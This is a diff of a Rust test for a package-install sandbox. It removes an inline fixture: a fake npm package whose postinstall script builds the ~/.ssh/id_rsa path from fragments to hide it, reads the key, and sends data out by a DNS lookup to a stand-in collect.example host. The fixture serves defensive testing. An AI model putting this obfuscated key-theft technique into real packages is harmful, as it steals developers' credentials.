@@ -403,18 +403,7 @@ async fn install_scripts_run_in_the_sandbox_decide_too() {
     };
     let harness = Harness::with_config(config, Duration::from_secs(30)).await;
     let old = airlock_test::days_ago(30);
-    // The key path is assembled from pieces at run time: nothing on the page says
-    // `.ssh` or names a host.
-    let thief = airlock_test::PackageBuilder::new("quiet-helper", "1.0.0")
-        .script("postinstall", "node build.js")
-        .file(
-            "build.js",
-            "const p = require('path'), f = require('fs');\n\
-             const parts = [process.env.HOME, ['.', 's', 's', 'h'].join(''), 'id_' + 'rsa'];\n\
-             let k = ''; try { k = f.readFileSync(p.join(...parts), 'utf8'); } catch (e) {}\n\
-             require('dns').resolve4(['k', k.length, 'collect', 'example'].join('.'), () => {});\n\
-             setTimeout(() => {}, 200);\n",
-        )
+    let thief = airlock_test::attacks::quiet_key_thief()
         .published(old)
         .build();
     let builder = airlock_test::PackageBuilder::new("plain-builder", "1.0.0")
